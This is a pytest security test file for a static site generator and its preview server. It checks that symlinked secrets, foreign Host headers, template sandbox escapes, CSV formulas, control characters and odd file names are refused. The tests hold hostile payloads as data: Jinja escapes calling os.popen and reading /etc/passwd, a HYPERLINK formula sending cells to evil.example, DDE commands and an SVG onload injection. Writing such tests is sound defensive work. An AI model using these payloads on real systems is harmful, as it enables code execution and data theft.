"""Holes found by attacking the site and its preview, each reproduced (SPEC 9, "Safe" and
"Nothing lost"): files from outside the site, a preview answering any host, themes that run
code or loop for ever, spreadsheet formulas, control characters from YAML escapes, names
with a trailing newline, text dropped without a word, and smaller surprises. The output
folder's holes are in tests/test_output_folder.py; the importer's in tests/test_import.py."""

from __future__ import annotations

import csv
import datetime as dt
import http.client
import io
import os
import textwrap
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from conftest import (
    FULL_SITE,
    MINIMAL_SITE,
    TODAY,
    build,
    check,
    check_errors,
    lines,
    run,
    tree_bytes,
    write_files,
)
from htmlpage import read_page

from tracker.build import build_site
from tracker.content.folder import is_slug
from tracker.preview.rebuild import Incremental
from tracker.preview.serve import Preview
from tracker.site.clock import TemplateClock

DAY = dt.date.fromisoformat(TODAY)
RECORD = "content/actions/data-dashboard.yml"
THEME = {"site.yml": "title: Test tracker\ntheme: mine\n"}


def ok(result) -> None:
    assert result.exit_code == 0, result.stderr
    assert "Traceback" not in result.stderr


def site_with(tmp_path: Path, files: dict[str, str | bytes | None]) -> Path:
    return write_files(tmp_path / "site", {**FULL_SITE, **files})


def everything(folder: Path) -> bytes:
    return b"\n".join(tree_bytes(folder).values())


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file outside the site that nothing may publish."""
    path = tmp_path / "secret.txt"
    path.write_text("SECRET-OUTSIDE-TOKEN\n")
    return path


# 3. Files from outside the site ------------------------------------------------------------

def test_a_link_out_in_a_themes_static_folder_is_not_published(tmp_path, secret):
    site = site_with(tmp_path, {**THEME, "themes/mine/static/logo.txt": "ours\n"})
    (site / "themes/mine/static/passwd").symlink_to(secret)
    result = build(site, tmp_path / "out")
    ok(result)
    assert f"{site}/themes/mine/static/passwd:1:1: warning: ignored: this link points outside " \
           "the site folder" in result.stderr
    assert b"SECRET-OUTSIDE-TOKEN" not in everything(tmp_path / "out")
    assert (tmp_path / "out/assets/logo.txt").read_text() == "ours\n"


def test_a_link_out_in_content_is_not_read(tmp_path, secret):
    outside = tmp_path / "outside.md"
    outside.write_text("---\ntitle: SECRET-OUTSIDE-TOKEN\ndate: 2023-01-01\n---\nSECRET\n")
    site = site_with(tmp_path, {})
    (site / "content/updates/2023-01-01-linked.md").symlink_to(outside)
    result = build(site, tmp_path / "out")
    ok(result)
    assert f"{site}/content/updates/2023-01-01-linked.md:1:1: warning: ignored: this link " \
           "points outside the site folder" in result.stderr
    assert b"SECRET-OUTSIDE-TOKEN" not in everything(tmp_path / "out")


def test_a_template_cannot_include_a_file_through_a_link_out(tmp_path, secret):
    site = site_with(tmp_path, {
        **THEME, "themes/mine/templates/page.html":
            "{% extends 'base.html' %}{% block main %}{% include 'stolen.html' %}{% endblock %}\n",
        "content/pages/about.md": "---\ntitle: About\n---\nText.\n"})
    (site / "themes/mine/templates/stolen.html").symlink_to(secret)
    result = build(site, tmp_path / "out")
    assert result.exit_code == 1
    assert f"{site}/themes/mine/templates/stolen.html:1:1: error: template error: this " \
           "template is a link to a file outside the site folder" in result.stderr
    assert not (tmp_path / "out").exists()


def test_a_linked_folder_is_followed_inside_the_site_and_reported_out_of_it(tmp_path, secret):
    site = site_with(tmp_path, {"shared/plan.txt": "shared plan\n"})
    (site / "static/shared").symlink_to(site / "shared", target_is_directory=True)
    (site / "static/elsewhere").symlink_to(tmp_path, target_is_directory=True)
    result = build(site, tmp_path / "out")
    ok(result)
    assert (tmp_path / "out/shared/plan.txt").read_text() == "shared plan\n"
    assert f"{site}/static/elsewhere:1:1: warning: ignored: this link points outside the " \
           "site folder" in result.stderr
    assert not (tmp_path / "out/elsewhere").exists()


def test_a_site_yml_linked_from_outside_is_refused(tmp_path):
    outside = tmp_path / "other.yml"
    outside.write_text("title: SECRET-OUTSIDE-TOKEN\n")
    site = site_with(tmp_path, {"site.yml": None})
    (site / "site.yml").symlink_to(outside)
    assert check_errors(site)[0] == (
        "site.yml:1:1: error: site.yml is a link to a file outside the site folder\n"
        "    hint: copy the file into the site instead of linking to it")


# 4. The preview answers only its own host names ----------------------------------------

@contextmanager
def previewing(root: Path, clock_seconds: float | None = None) -> Iterator[Preview]:
    preview = Preview(root, "127.0.0.1", 0, DAY)
    if clock_seconds is not None:
        preview.builder.clock.seconds = clock_seconds
    try:
        yield preview.start()
    finally:
        preview.shutdown()


def ask(preview: Preview, path: str, host: str | None = None) -> tuple[int, bytes]:
    conn = http.client.HTTPConnection("127.0.0.1", preview.port, timeout=5)
    try:
        conn.putrequest("GET", path, skip_host=True)
        conn.putheader("Host", host or f"127.0.0.1:{preview.port}")
        conn.endheaders()
        response = conn.getresponse()
        return response.status, response.read()
    finally:
        conn.close()


def test_the_preview_refuses_a_host_name_that_is_not_its_own(tmp_path):
    site = site_with(tmp_path, {"content/updates/2023-12-01-draft.md":
                                "---\ntitle: A secret draft\ndate: 2023-12-01\ndraft: true\n---\n"
                                "DRAFT-TOKEN\n"})
    with previewing(site) as preview:
        port = preview.port
        for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"[::1]:{port}",
                     f"LocalHost:{port}"):
            code, body = ask(preview, "/updates/2023-12-01-draft/", host)
            assert (code, b"DRAFT-TOKEN" in body) == (200, True), host
        for host in (f"rebind.attacker.example:{port}", "127.0.0.1", f"127.0.0.1:{port + 1}",
                     f"127.0.0.1.attacker.example:{port}"):
            for path in ("/updates/2023-12-01-draft/", "/__tracker/status", "/__tracker/events",
                         "/", "/no/such/page/"):
                code, body = ask(preview, path, host)
                assert code == 403, (host, path)
                assert b"DRAFT" not in body and b"version" not in body


# 5. Themes shape pages, and never run commands or read files ----------------------------

SANDBOX_ESCAPES = {
    "popen": "{{ cycler.__init__.__globals__.os.popen('touch MARKER').read() }}",
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "globals of a view": "{{ view.__class__.__init__.__globals__ }}",
    "open": "{{ lipsum.__globals__['__builtins__']['open']('/etc/passwd').read() }}",
    "a method that changes a value": "{% set x = [] %}{{ x.append(1) }}",
    "a huge text": "{{ 'x' * 10**10 }}",
    "a huge number": "{{ 2 ** 100000000 }}",
    "a huge range": "{% for i in range(10**12) %}{% endfor %}",
    "a file beside the theme": "{% include '../../../site.yml' %}",
}


@pytest.mark.parametrize("template", SANDBOX_ESCAPES.values(), ids=SANDBOX_ESCAPES.keys())
def test_a_theme_cannot_run_commands_or_read_files(tmp_path, template, monkeypatch):
    monkeypatch.chdir(tmp_path)
    site = site_with(tmp_path, {**THEME, "themes/mine/templates/page.html":
                                "{% extends 'base.html' %}{% block main %}\n" + template
                                + "\n{% endblock %}\n",
                                "content/pages/about.md": "---\ntitle: About\n---\nText.\n"})
    started = time.monotonic()
    result = build(site, tmp_path / "out")
    assert result.exit_code == 1, result.stderr
    assert "Traceback" not in result.stderr
    assert f"{site}/themes/mine/templates/page.html:2:1: error: template error: " in result.stderr
    assert not (tmp_path / "MARKER").exists()
    assert time.monotonic() - started < 60


# 9. A template that loops, raises or recurses ------------------------------------------

LOOP = ("{% extends 'base.html' %}{% block main %}\n"
        "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}\n"
        "{% endblock %}\n")


def test_a_template_that_loops_for_ever_is_stopped_at_its_line(tmp_path):
    site = site_with(tmp_path, {**THEME, "themes/mine/templates/page.html": LOOP,
                                "content/pages/about.md": "---\ntitle: About\n---\nText.\n"})
    result = build_site(site, tmp_path / "out", DAY, search=False, clock=TemplateClock(0.5))
    assert [p.format() for p in result.problems if p.severity == "error"] == [
        "themes/mine/templates/page.html:2:1: error: template error: this template wrote "
        "nothing for too long; does a loop in it never end?\n"
        "    hint: fix the template, or remove it to use the default theme's"]
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(("template", "message"), [
    ("{{ 1 // 0 }}", "template error: ZeroDivisionError: integer division or modulo by zero"),
    ("{% macro down(n) %}{{ down(n + 1) }}{% endmacro %}{{ down(0) }}",
     "template error: RecursionError: maximum recursion depth exceeded"),
    ("{{ view.nothing_here }}", "template error: 'tracker.site.lists.ListView object' has no "
                                "attribute 'nothing_here'"),
], ids=["raises", "recurses", "undefined"])
def test_every_template_error_is_reported_at_its_file_and_line(tmp_path, template, message):
    site = site_with(tmp_path, {**THEME, "themes/mine/templates/page.html":
                                "{% extends 'base.html' %}{% block main %}\n" + template
                                + "\n{% endblock %}\n",
                                "content/pages/about.md": "---\ntitle: About\n---\nText.\n"})
    result = build(site, tmp_path / "out")
    assert result.exit_code == 1
    assert "stopped unexpectedly" not in result.stderr and "Traceback" not in result.stderr
    assert f"{site}/themes/mine/templates/page.html:2:1: error: {message}" in result.stderr


def wait_for(condition, seconds: float = 30.0):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if value := condition():
            return value
        time.sleep(0.05)
    raise AssertionError("timed out")


def test_the_preview_recovers_once_a_looping_template_is_fixed(tmp_path):
    page = "themes/mine/templates/page.html"
    site = site_with(tmp_path, {**THEME, page: "{% extends 'base.html' %}{% block main %}"
                                "<p>FIRST</p>{% endblock %}\n",
                                "content/pages/about.md": "---\ntitle: About\n---\nText.\n"})
    with previewing(site, clock_seconds=0.5) as preview:
        assert b"FIRST" in ask(preview, "/about/")[1]
        write_files(site, {page: LOOP})
        failed = wait_for(lambda: preview.state.snapshot.failed and preview.state)
        assert [p.format() for p in failed.snapshot.problems if p.severity == "error"][0] \
            .startswith(f"{page}:2:1: error: template error: this template wrote nothing")
        write_files(site, {page: "{% extends 'base.html' %}{% block main %}<p>FIXED</p>"
                                 "{% endblock %}\n"})
        wait_for(lambda: b"FIXED" in ask(preview, "/about/")[1])
        assert not preview.state.snapshot.failed


def test_the_preview_stops_at_once_while_a_template_loops(tmp_path):
    page = "themes/mine/templates/page.html"
    site = site_with(tmp_path, {**THEME, page: "{% extends 'base.html' %}{% block main %}"
                                "{% endblock %}\n",
                                "content/pages/about.md": "---\ntitle: About\n---\nText.\n"})
    preview = Preview(site, "127.0.0.1", 0, DAY).start()  # the clock waits its 20 s
    try:
        rebuilds = preview.builder.rebuilds
        write_files(site, {page: LOOP})
        wait_for(lambda: preview.builder.rebuilds > rebuilds)
        time.sleep(0.5)
    finally:
        started = time.monotonic()
        preview.shutdown()
    assert time.monotonic() - started < 5


# 10. A theme file deleted while the preview reads it ------------------------------------

def test_a_deleted_template_is_never_served_after_the_preview_sees_it_go(tmp_path, monkeypatch):
    """Saving and deleting a template quickly: the theme's files can look as they did when
    an environment was made, while that environment loaded the template in between."""
    from tracker.preview import rebuild

    page = "themes/default/templates/page.html"
    site = write_files(tmp_path / "site", {**MINIMAL_SITE, "content/pages/about.md":
                                           "---\ntitle: About\n---\nText.\n"})
    builder = Incremental(site, DAY)
    builder.rebuild()
    real = rebuild.theme_signature
    saved_after_signature = []

    def signature_then_save(root, theme):
        found = real(root, theme)
        if not saved_after_signature:  # the save lands after the theme was looked at
            saved_after_signature.append(write_files(site, {page: "{% extends 'base.html' %}"
                                                          "{% block main %}OVERRIDE{% endblock %}\n"}))
        return found

    monkeypatch.setattr(rebuild, "theme_signature", signature_then_save)
    builder.rebuild({page})
    monkeypatch.setattr(rebuild, "theme_signature", real)
    assert b"OVERRIDE" in builder.current.files["about/index.html"]  # type: ignore[operator]
    (site / page).unlink()
    builder.rebuild({page})
    assert b"OVERRIDE" not in builder.current.files["about/index.html"]  # type: ignore[operator]


# 6. Spreadsheet formulas -----------------------------------------------------------------

def test_cells_a_spreadsheet_would_run_are_neutralised(make_site, tmp_path):
    site = make_site({RECORD: """\
        title: '=HYPERLINK("https://evil.example/?x="&A1,"click")'
        tracks: [letter:herts-2023#P1]
        owner: "+cmd|' /C calc'!A0"
        timeline:
          - date: 2023-09-12
            status: identified
            note: "@SUM(1+1)*cmd|' /C calc'!A0"
            evidence: [letter:herts-2023#P1]
          - date: 2023-09-13
            status: in-progress
            note: "-2+3"
            evidence: [letter:herts-2023#P1]
        """})
    ok(build(site, tmp_path / "out"))
    records = list(csv.DictReader(io.StringIO((tmp_path / "out/data/records.csv").read_text())))
    row = next(r for r in records if r["id"] == "data-dashboard")
    assert row["title"] == "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")"
    assert row["owners"] == "'+cmd|' /C calc'!A0"
    steps = list(csv.DictReader(io.StringIO((tmp_path / "out/data/timeline.csv").read_text())))
    notes = [s["note"] for s in steps if s["record"] == "data-dashboard" and not s["action"]]
    assert notes == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"]
    cells = [cell for name in ("records.csv", "timeline.csv")
             for r in csv.reader(io.StringIO((tmp_path / f"out/data/{name}").read_text()))
             for cell in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


# 7. Control and direction characters, wherever they come from ----------------------------

@pytest.mark.parametrize(("written", "code"), [
    ("\\0", "U+0000"), ("\\a", "U+0007"), ("\\e[31mred", "U+001B"), ("\\N", "U+0085"),
    ("\\u202e", "U+202E"), ("\\x7f", "U+007F")])
def test_a_control_character_written_as_a_yaml_escape_is_refused_at_its_line(
        make_site, written, code):
    site = make_site({RECORD: MINIMAL_SITE[RECORD].replace(
        "title: Improve the SEND data dashboard", f'title: "Improve {written}"')})
    [error] = check_errors(site)
    assert error.startswith(f"{RECORD}:1:8: error: this text holds ")
    assert f"({code}" in error and "written as an escape" in error


def test_a_raw_direction_override_in_markdown_is_refused_at_its_line(make_site):
    site = make_site({"content/updates/2023-10-01-x.md":
                      "---\ntitle: X\ndate: 2023-10-01\n---\nPay \u202eecnalab\u202c now.\n"})
    assert check_errors(site) == [
        "content/updates/2023-10-01-x.md:5:5: error: this file contains an invisible character "
        "that changes the direction of text (U+202E, right-to-left override)\n"
        "    hint: delete it: it can make text show differently from what it says"]


def test_check_never_prints_a_control_character_to_the_terminal(make_site):
    site = make_site({RECORD: MINIMAL_SITE[RECORD] + "\x1b]0;pwned\x07: 1\n",
                      "content/updates/a\x1b[31mb.md": "---\ntitle: X\ndate: 2023-10-01\n---\n"})
    for fmt in ("text", "json"):
        result = check(site, "--format", fmt)
        assert result.exit_code == 1
        shown = result.stderr + result.stdout
        assert "\x1b" not in shown and "\x07" not in shown
        assert "\\x1b" in shown or "\\u001b" in shown


def test_a_sub_action_id_must_be_a_name(make_site):
    record = textwrap.dedent(MINIMAL_SITE[RECORD]) + textwrap.dedent("""\
        actions:
          - id: "x\\"><svg onload=alert(1)>"
            title: A step
            timeline:
              - date: 2023-09-12
                status: planned
                evidence: [letter:herts-2023#P1]
        """)
    site = make_site({RECORD: record})
    assert check_errors(site) == [
        f"{RECORD}:8:9: error: sub-action id 'x\"><svg onload=alert(1)>' may only use "
        "letters, digits and hyphens\n    hint: for example 'x-svg-onload-alert-1'"]


# 8. Names ---------------------------------------------------------------------------------

def test_a_name_with_a_trailing_newline_is_no_slug_and_makes_no_folder(make_site, tmp_path):
    assert not is_slug("evil\n") and is_slug("evil")
    site = make_site({"content/updates/evil\n.md": "---\ntitle: X\ndate: 2023-10-01\n---\nHi.\n",
                      "static/evil\n.pdf": b"%PDF-1.4\n"})
    result = build(site, tmp_path / "out")
    assert result.exit_code == 1
    assert f"{site}/content/updates/evil\\n.md:1:1: error: this file name contains a control " \
           "character (U+000A)" in result.stderr
    assert f"{site}/static/evil\\n.pdf:1:1: error: this file name contains a control " \
           "character (U+000A)" in result.stderr
    assert not (tmp_path / "out").exists()


# 12. Text nested too deeply is reported, never dropped ------------------------------------

def test_text_nested_too_deeply_to_show_is_an_error_at_its_line(make_site):
    lists = "".join("  " * depth + f"- level {depth}\n" for depth in range(25))
    quotes = ">" * 45 + " deep quote\n"
    site = make_site({"content/updates/2023-10-01-lists.md":
                      "---\ntitle: Lists\ndate: 2023-10-01\n---\nWords.\n\n" + lists,
                      "content/pages/quotes.md": "---\ntitle: Quotes\n---\n" + quotes})
    message = ("error: this text is nested too deeply to be shown (lists in lists, or quotes "
               "in quotes)\n    hint: use fewer levels: indent less, or start fewer lines with '>'")
    assert check_errors(site) == [f"content/pages/quotes.md:4:1: {message}",
                                  f"content/updates/2023-10-01-lists.md:26:1: {message}"]


def test_lists_twelve_deep_and_quotes_twenty_five_deep_are_shown_whole(make_site, tmp_path):
    lists = "".join("  " * depth + f"- level {depth}\n" for depth in range(12))
    site = make_site({"content/updates/2023-10-01-lists.md":
                      "---\ntitle: Lists\ndate: 2023-10-01\n---\n" + lists,
                      "content/pages/quotes.md": "---\ntitle: Quotes\n---\n" + ">" * 25
                      + " deep quote\n"})
    ok(build(site, tmp_path / "out"))
    page = read_page(tmp_path / "out", "updates/2023-10-01-lists/index.html")
    assert all(f"level {depth}" in page.main.text for depth in range(12))
    assert "deep quote" in read_page(tmp_path / "out", "quotes/index.html").main.text


# 13. Smaller surprises --------------------------------------------------------------------

def test_hidden_files_in_static_are_published_and_litter_is_not(tmp_path):
    site = site_with(tmp_path, {"static/.well-known/security.txt": "Contact: a@example.org\n",
                                "static/.nojekyll": "", "static/.DS_Store": "x",
                                "static/docs/.plan.pdf.swp": "x", "static/docs/plan.pdf~": "x"})
    ok(build(site, tmp_path / "out"))
    out = tmp_path / "out"
    assert (out / ".well-known/security.txt").read_text() == "Contact: a@example.org\n"
    assert (out / ".nojekyll").is_file()
    assert not any((out / p).exists() for p in (".DS_Store", "docs/.plan.pdf.swp", "docs/plan.pdf~"))


def test_a_static_file_with_a_colon_in_its_name_is_published_and_linked(tmp_path):
    site = site_with(tmp_path, {"static/a:b.pdf": b"%PDF-1.4 colon\n", "content/pages/about.md":
                                "---\ntitle: About\n---\nSee [the file](static:a:b.pdf).\n"})
    ok(build(site, tmp_path / "out"))
    assert (tmp_path / "out/a:b.pdf").read_bytes() == b"%PDF-1.4 colon\n"
    page = read_page(tmp_path / "out", "about/index.html")
    assert "../a%3Ab.pdf" in [link.url for link in page.links]


def test_an_accented_file_name_gets_a_hint_that_keeps_its_letters(make_site):
    site = make_site({"content/pages/café.md": "---\ntitle: Café\n---\nHi.\n"})
    assert check_errors(site) == [
        "content/pages/café.md:1:1: error: the file name 'café' is not a valid slug\n"
        "    hint: use lower-case letters, digits and hyphens: rename it to 'cafe.md'"]


def test_thousands_of_problems_in_one_file_print_a_few_and_a_count(make_site):
    site = make_site({RECORD: textwrap.dedent(MINIMAL_SITE[RECORD])
                      + "".join(f"field{n}: x\n" for n in range(10_000))})
    result = check(site)
    assert result.exit_code == 1
    shown = lines(result)
    assert len(shown) == 50
    assert f"… and 9,950 more problems in {site}/{RECORD} (all of them: tracker check " \
           "--format json)" in result.stderr
    assert result.stderr.strip().endswith("10000 error(s), 0 warning(s)")
    assert len(result.stderr.splitlines()) < 120


@pytest.mark.parametrize("umask", [0o022, 0o002])
def test_new_files_get_the_permissions_the_umask_gives(make_site, umask):
    site = make_site()
    before = os.umask(umask)
    try:
        ok(run("new", "update", "News", "--site", str(site), "--date", "2023-10-01"))
        ok(run("new", "letter", "new-letter", "--site", str(site)))
        ok(run("init", str(site.parent / "fresh")))
    finally:
        os.umask(before)
    made = [site / "content/updates/2023-10-01-news.md", site / "content/letters/new-letter.md",
            site.parent / "fresh/site.yml"]
    assert {oct(path.stat().st_mode & 0o777) for path in made} == {oct(0o666 & ~umask)}


def test_a_note_that_is_only_code_keeps_its_text_in_the_open_data(tmp_path):
    import json

    site = write_files(tmp_path / "site", {**MINIMAL_SITE, RECORD: textwrap.dedent(
        MINIMAL_SITE[RECORD]) + "    note: |\n" + "        print('the plan')\n"})
    ok(build(site, tmp_path / "out"))
    data = json.loads((tmp_path / "out/data/tracker.json").read_text())
    record = next(r for r in data["records"] if r["id"] == "data-dashboard")
    assert record["timeline"][0]["note"] == "print('the plan')"


def test_the_404_page_is_styled_in_the_preview(tmp_path):
    site = site_with(tmp_path, {})
    with previewing(site) as preview:
        code, body = ask(preview, "/letters/no-such-letter/deep/")
        assert code == 404 and b"Page not found" in body
        assert b'href="/assets/style.css"' in body
        assert ask(preview, "/assets/style.css")[0] == 200


def test_a_preview_killed_outright_has_its_folder_removed_by_the_next(tmp_path, monkeypatch):
    import signal
    import subprocess
    import sys
    import tempfile

    site = site_with(tmp_path, {})
    temp = tmp_path / "tmp"
    temp.mkdir()
    killed = subprocess.Popen([sys.executable, "-m", "tracker", "serve", "--site", str(site),
                               "--port", "0", "--today", TODAY], stdout=subprocess.PIPE,
                              stderr=subprocess.DEVNULL, env={**os.environ, "TMPDIR": str(temp)})
    try:
        assert killed.stdout is not None and b"Serving" in killed.stdout.readline()
        left = wait_for(lambda: [p.name for p in temp.iterdir()])
    finally:
        killed.send_signal(signal.SIGKILL)
        killed.wait(timeout=10)
    assert left[0].startswith("tracker-serve-") and (temp / left[0]).is_dir()
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    with previewing(site):
        assert not (temp / left[0]).exists()
        assert len(list(temp.iterdir())) == 1, "its own folder only"
    assert list(temp.iterdir()) == []


def test_a_stopped_template_leaves_nothing_behind_in_its_thread(tmp_path):
    """The exception that stops a page is sent to its thread; once the page has ended,
    nothing of it may be left pending there (code run after it, even under a profiler,
    once spun for ever)."""
    import subprocess
    import sys

    site = site_with(tmp_path, {**THEME, "themes/mine/templates/page.html": LOOP,
                                "content/pages/about.md": "---\ntitle: About\n---\nText.\n"})
    script = textwrap.dedent(f"""\
        import datetime, sys
        from pathlib import Path
        from tracker.build import build_site
        from tracker.site.clock import TemplateClock
        for out in ("one", "two"):
            result = build_site(Path({str(site)!r}), Path({str(tmp_path)!r}) / out,
                                datetime.date(2024, 1, 1), search=False, jobs=1,
                                clock=TemplateClock(0.2))
            assert not result.ok
        calls = []
        sys.setprofile(lambda frame, event, arg: calls.append(event))
        total = sum(len(str(n)) for n in range(20000))
        sys.setprofile(None)
        print("done", total > 0, len(calls) > 0)
        """)
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                          timeout=120)
    assert done.stdout == "done True True\n", done.stderr[-2000:]
